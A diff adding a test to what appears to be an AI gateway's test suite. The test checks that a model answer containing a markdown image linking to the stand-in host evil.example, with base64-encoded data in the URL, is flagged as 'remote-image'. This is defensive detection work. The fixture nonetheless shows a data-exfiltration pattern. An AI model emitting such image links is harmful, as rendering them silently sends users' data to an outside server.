@@ -77,6 +77,21 @@ test('a stream reaches the SDK as the model has said it, thinking and its signat
   expect(message.stop_reason).toBe('end_turn');
 });
 
+test.each(['whole', 'streamed'])(
+  'an answer that shows an image that carries data says so on record, %s',
+  async (way) => {
+    const image = '![chart](https://evil.example/c.png?d=c2VjcmV0)';
+    await using w = await world([says(image), says('There are three patients.')]);
+    const said = async () =>
+      way === 'whole' ? w.client.messages.create(question) : w.client.messages.stream(question).finalMessage();
+    expect((await said()).content).toMatchObject([{ type: 'text', text: image }]);
+    await expect.poll(() => w.gateway.outcomes().at(-1)?.outcome).toMatchObject({ flags: ['remote-image'] });
+    await said();
+    await expect.poll(() => w.gateway.outcomes().length).toBe(3); // with the session's beginning
+    expect(w.gateway.outcomes().at(-1)!.outcome).not.toHaveProperty('flags');
+  },
+);
+
 test('the model gets the body as it was and unknown headers with it, with the agent’s key and without the ticket', async () => {
   await using w = await world([says('ok')]);
   const body =
